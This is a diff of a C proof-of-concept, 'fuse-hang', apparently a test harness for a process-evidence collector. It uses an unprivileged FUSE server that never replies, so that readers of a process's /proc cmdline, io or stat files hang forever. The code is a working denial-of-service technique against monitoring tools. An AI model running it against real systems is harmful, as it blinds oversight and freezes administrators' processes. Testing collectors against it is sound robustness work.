@@ -1,21 +1,25 @@
 /*
- * A tenant's process that makes whoever reads its command line wait for ever, with nothing but what
- * any account has: a FUSE server in a user namespace of its own, /dev/fuse being open to all.
+ * A tenant's process that makes whoever reads about it wait for ever, with nothing but what any account
+ * has: a FUSE server in a user namespace of its own, /dev/fuse being open to all.
  *
  *     fuse-hang cmdline|io [DEVICE]     /dev/fuse, or a copy that all may open, as udev makes it
  *
- * cmdline: the process has its arguments in memory that a file of the server backs; the server never
- *          answers READ, so whoever reads the arguments waits for it.
+ * cmdline: one thread unmaps a changed page of a file of the server, which never answers WRITE; another
+ *          waits to change the memory map; who reads the arguments waits behind the two.
  * io:      the process calls execve with a file of the server open that is to be closed then; the
- *          server never answers FLUSH, and /proc/PID/io is told under a lock that execve holds.
+ *          server never answers FLUSH, and execve holds the lock under which the kernel tells
+ *          /proc/PID/io, and newer ones /proc/PID/stat (6.18 does).
  *
- * Prints the pid of the process that hangs its readers. It must not achieve that anybody else's
- * command lines are missing from the evidence, nor that more of its own are than of this process.
+ * Prints the pid of the process that hangs its readers, and a second line, "hangs PID", once it does: that
+ * of the server, with whose end the attack is over. It must not achieve that anything of anybody else is missing from the evidence, nor that more of its own
+ * is than those files of this process.
  */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <dirent.h>
 #include <linux/fuse.h>
+#include <pthread.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdint.h>
@@ -66,9 +70,33 @@ static struct fuse_attr attributes(uint64_t node) {
   return attr;
 }
 
-/* Answers what is asked before the file can be used, and neither READ nor FLUSH. */
+/* Threads of the process that wait for the kernel. */
+static int waiting(pid_t pid) {
+  char path[300], line[256];
+  int count = 0;
+  snprintf(path, sizeof path, "/proc/%d/task", pid);
+  DIR *tasks = opendir(path);
+  for (struct dirent *each; tasks != NULL && (each = readdir(tasks)) != NULL;) {
+    snprintf(path, sizeof path, "/proc/%d/task/%s/status", pid, each->d_name);
+    FILE *status = each->d_name[0] == '.' ? NULL : fopen(path, "r");
+    if (status == NULL) continue;
+    while (fgets(line, sizeof line, status) != NULL) count += strncmp(line, "State:\tD", 8) == 0;
+    fclose(status);
+  }
+  if (tasks != NULL) closedir(tasks);
+  return count;
+}
+
+/* Only now would a reader wait for ever. */
+static void hangs(int threads) {
+  while (waiting(getppid()) < threads) usleep(1000);
+  printf("hangs %d\n", getpid());
+  fflush(stdout);
+}
+
+/* Answers what is asked before the file can be used, and neither WRITE nor FLUSH. */
 static void serve(int fuse) {
-  static char in[1 << 20];
+  static char in[1 << 20], page[4096];
   for (;;) {
     ssize_t got = read(fuse, in, sizeof in);
     if (got < 0 && (errno == EINTR || errno == ENOENT)) continue;
@@ -98,7 +126,14 @@ static void serve(int fuse) {
       break;
     }
     case FUSE_READ:
+      reply(fuse, unique, 0, page, sizeof page);
+      break;
+    case FUSE_WRITE:
+      hangs(2);
+      break;
     case FUSE_FLUSH:
+      hangs(0);
+      break;
     case FUSE_FORGET:
     case FUSE_INTERRUPT:
       break;
@@ -108,36 +143,23 @@ static void serve(int fuse) {
   }
 }
 
-/* Lets the kernel look for the arguments in memory that the server backs. */
-static void arguments_in(char *page) {
-  char *begin = page, *end = page + 4096;
-  /* The end first: the kernel checks that they do not cross. */
-  if (prctl(PR_SET_MM, PR_SET_MM_ARG_END, end, 0, 0) < 0 ||
-      prctl(PR_SET_MM, PR_SET_MM_ARG_START, begin, 0, 0) < 0) {
-    struct prctl_mm_map map;
-    memset(&map, 0, sizeof map);
-    FILE *stat = fopen("/proc/self/stat", "r");
-    char text[4096];
-    if (stat == NULL || fgets(text, sizeof text, stat) == NULL) die("stat");
-    fclose(stat);
-    unsigned long long field[64] = {0};
-    int at = 3;
-    for (char *word = strtok(strrchr(text, ')') + 2, " "); word != NULL && at < 60; word = strtok(NULL, " "))
-      field[at++] = strtoull(word, NULL, 10);
-    map.start_code = field[26];
-    map.end_code = field[27];
-    map.start_stack = field[28];
-    map.start_data = field[45];
-    map.end_data = field[46];
-    map.start_brk = field[47];
-    map.brk = (uint64_t)(uintptr_t)sbrk(0);
-    map.arg_start = (uint64_t)(uintptr_t)begin;
-    map.arg_end = (uint64_t)(uintptr_t)end;
-    map.env_start = field[50];
-    map.env_end = field[51];
-    map.exe_fd = -1;
-    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) < 0) die("PR_SET_MM_MAP");
-  }
+static char *mapped(int fd) {
+  char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+  if (page == MAP_FAILED) die("mmap");
+  *page = 1;
+  return page;
+}
+
+/* Holds the lock of its memory until the server has written the page. */
+static void *unmap(void *page) {
+  munmap(page, 4096);
+  return NULL;
+}
+
+/* Waits for that lock to change something, and whoever would only read stands behind. */
+static void *change(void *none) {
+  for (;;) munmap(mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), 4096);
+  return none;
 }
 
 int main(int count, char **words) {
@@ -156,19 +178,20 @@ int main(int count, char **words) {
   pid_t server = fork();
   if (server == 0) {
     prctl(PR_SET_PDEATHSIG, SIGKILL);
+    /* Whoever waits for it may not be killable, so it ends whatever happens. */
+    alarm(300);
     serve(fuse);
   }
   close(fuse);
   snprintf(file, sizeof file, "%s/file", place);
-  int fd = open(file, O_RDONLY | O_CLOEXEC);
+  int fd = open(file, O_RDWR | O_CLOEXEC);
   if (fd < 0) die(file);
-  if (!by_io) {
-    char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
-    if (page == MAP_FAILED) die("mmap");
-    arguments_in(page);
-  }
+  char *page = by_io ? NULL : mapped(fd);
   printf("%d\n", getpid());
   fflush(stdout);
   if (by_io) execl("/proc/self/exe", "fuse-hang", "wait", NULL);
+  pthread_t thread;
+  if (pthread_create(&thread, NULL, unmap, page) != 0) die("pthread_create");
+  if (pthread_create(&thread, NULL, change, NULL) != 0) die("pthread_create");
   for (;;) pause();
 }
